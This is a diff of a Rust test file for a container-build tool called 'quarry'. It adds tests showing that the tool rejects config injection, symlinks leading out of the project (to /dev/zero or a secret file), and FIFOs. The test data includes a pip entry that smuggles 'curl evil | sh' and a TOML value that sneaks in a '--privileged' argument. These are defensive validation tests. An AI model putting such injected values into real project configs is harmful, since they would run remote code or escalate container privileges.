@@ -1,5 +1,5 @@
 //! Project extensions as a user writes them: folders named by `extension_dirs` and the two-line
-//! keys, with their mistakes, `quarry new-extension` and `quarry import` of deps_rocker files.
+//! keys, with their mistakes, and `quarry new-extension`. deps_rocker's files: `tests/deps.rs`.
 
 use std::path::{Path, PathBuf};
 use std::process::{Command, Output};
@@ -257,6 +257,12 @@ fn mistakes_name_the_file_and_line_and_write_nothing() {
             "pip = [\"rich'; curl evil | sh; '\"]",
             "is not a requirement quarry accepts",
         ),
+        (
+            "repository-injection",
+            "quarry.toml",
+            r#"apt_repositories = [{ name = "ros\"\nkey_url = \"https://example.org/k.gpg\"\nsource = \"deb https://example.org/ros main\"\n[run]\nargs = [\"--privileged\"]\n[x]\n#", key_url = "https://example.org/k.gpg", source = "deb https://example.org/ros main" }]"#,
+            "`apt_repositories.name`: \"ros\\\"\\nkey_url",
+        ),
         ("bad-layer", "quarry.toml", "apt = { later = [\"git\"] }", "has no layer `later`"),
         (
             "template-syntax",
@@ -363,6 +369,60 @@ fn links_leaving_the_project_are_refused() {
     std::fs::remove_dir_all(dir).unwrap();
 }
 
+/// Every file a project names is read one way (`quarry_codegen::files`): a regular file inside
+/// the project, bounded. `/dev/zero`, a FIFO or a file outside named as `extension.toml` is an
+/// error naming it, at once (a FIFO used to hang every command, `/dev/zero` to eat all memory),
+/// and nothing of a file outside is echoed.
+#[test]
+fn every_file_a_project_names_is_a_regular_file_inside_it() {
+    let dir = project("files");
+    let metadata = dir.join(".quarry/extensions/eigen/extension.toml");
+    std::fs::write(dir.join("../outside-secret.toml"), "secret_key_name = 1\n").unwrap();
+    let fifo = |path: &Path| assert!(Command::new("mkfifo").arg(path).status().unwrap().success());
+    type Make<'a> = &'a dyn Fn(&Path);
+    let cases: [(Make, &str); 3] = [
+        (
+            &|p: &Path| std::os::unix::fs::symlink("/dev/zero", p).unwrap(),
+            "leads outside the project (to `/dev/zero`)",
+        ),
+        (&|p: &Path| fifo(p), "is a FIFO (named pipe), not a regular file"),
+        (
+            &|p: &Path| std::os::unix::fs::symlink("../../../../outside-secret.toml", p).unwrap(),
+            "leads outside the project",
+        ),
+    ];
+    for (make, want) in cases {
+        std::fs::remove_file(&metadata).unwrap();
+        make(&metadata);
+        let started = std::time::Instant::now();
+        let o = quarry(&dir, &["list"]);
+        assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
+        assert!(started.elapsed() < std::time::Duration::from_secs(30), "it waited");
+        assert!(stderr(&o).contains(want), "{want}: {}", stderr(&o));
+        assert!(!stderr(&o).contains("secret_key_name"), "{}", stderr(&o));
+    }
+    std::fs::remove_file(&metadata).unwrap();
+    write(&dir, ".quarry/extensions/eigen/extension.toml", "name = \"eigen_tools\"\ndescription = \"e\"\n");
+    // A script that is a FIFO.
+    std::fs::remove_file(dir.join("scripts/setup.sh")).unwrap();
+    fifo(&dir.join("scripts/setup.sh"));
+    let o = quarry(&dir, &["render"]);
+    assert_eq!(o.status.code(), Some(1));
+    assert!(stderr(&o).contains("`scripts/setup.sh` is not a file"), "{}", stderr(&o));
+    // The project's Dockerfile, through a link out of the project.
+    std::fs::create_dir_all(dir.join("../outside-docker")).unwrap();
+    std::fs::write(dir.join("../outside-docker/Dockerfile"), "FROM debian\n").unwrap();
+    std::os::unix::fs::symlink("../outside-docker", dir.join("docker")).unwrap();
+    write(&dir, "quarry.toml", "dockerfile = \"docker/Dockerfile\"\nextensions = [\"git\"]\n");
+    let o = quarry(&dir, &["render"]);
+    assert_eq!(o.status.code(), Some(1));
+    assert!(stderr(&o).contains("cannot use the project's Dockerfile `"), "{}", stderr(&o));
+    assert!(stderr(&o).contains("leads outside the project"), "{}", stderr(&o));
+    std::fs::remove_dir_all(dir.join("../outside-docker")).unwrap();
+    std::fs::remove_file(dir.join("../outside-secret.toml")).unwrap();
+    std::fs::remove_dir_all(dir).unwrap();
+}
+
 #[test]
 fn new_extension_scaffolds_a_folder_that_renders_as_it_is() {
     let dir = std::env::temp_dir().join(format!("quarry-projext-new-{}", std::process::id()));
@@ -382,35 +442,16 @@ fn new_extension_scaffolds_a_folder_that_renders_as_it_is() {
     );
     let out = render(&dir, &["--my-tool-version", "2.0.0"]);
     assert!(out.contains("# my_tool: setup") && out.contains("MY_TOOL_VERSION=2.0.0"), "{out}");
-    std::fs::remove_dir_all(dir).unwrap();
-}
-
-#[test]
-fn import_converts_deps_rocker_files_layer_for_layer() {
-    let dir = std::env::temp_dir().join(format!("quarry-projext-import-{}", std::process::id()));
-    let _ = std::fs::remove_dir_all(&dir);
-    write(&dir, "rockerc.yaml", "image: ubuntu:24.04\nargs: [deps, git]\n");
-    write(
-        &dir,
-        "main.deps.yaml",
-        "apt_tools: [git]\napt: [libeigen3-dev]\npip: [numpy]\nscripts: [setup.sh]\nenv: [A=1]\n",
-    );
-    write(&dir, "setup.sh", "echo setup\n");
-    write(&dir, "sub/x.deps.yaml", "apt: [cmake]\nscript_post: [post.sh]\n");
-    write(&dir, "sub/post.sh", "echo post\n");
-    let o = quarry(&dir, &["import", "rockerc.yaml"]);
-    assert!(o.status.success(), "{}", stderr(&o));
-    assert!(stderr(&o).contains("not converted: `main.deps.yaml`: `env`"), "{}", stderr(&o));
-    let out = render(&dir, &[]);
-    assert!(out.contains(
-        "# Extensions: curl, git, project_apt_tools, project_apt, project_pip, project_scripts, project_scripts_post, gitconfig"
-    ), "{out}");
-    assert!(out.contains("cmake libeigen3-dev\n"), "{out}");
-    // One deps file alone.
-    let o = quarry(&dir, &["import", "sub/x.deps.yaml", "-o", "other.toml"]);
-    assert!(o.status.success(), "{}", stderr(&o));
-    let text = std::fs::read_to_string(dir.join("other.toml")).unwrap();
-    assert!(text.contains("[apt]") || text.contains("apt = [\"cmake\"]"), "{text}");
+    // A `.quarry` that links out of the project is not written through.
+    let elsewhere = dir.with_extension("elsewhere");
+    std::fs::create_dir_all(&elsewhere).unwrap();
+    std::fs::rename(dir.join(".quarry"), elsewhere.join("moved")).unwrap();
+    std::os::unix::fs::symlink(elsewhere.join("moved"), dir.join(".quarry")).unwrap();
+    let o = quarry(&dir, &["new-extension", "other"]);
+    assert_eq!(o.status.code(), Some(1));
+    assert!(stderr(&o).contains("leads outside the project (to `"), "{}", stderr(&o));
+    assert!(!elsewhere.join("moved/extensions/other").exists());
+    std::fs::remove_dir_all(elsewhere).unwrap();
     std::fs::remove_dir_all(dir).unwrap();
 }
 
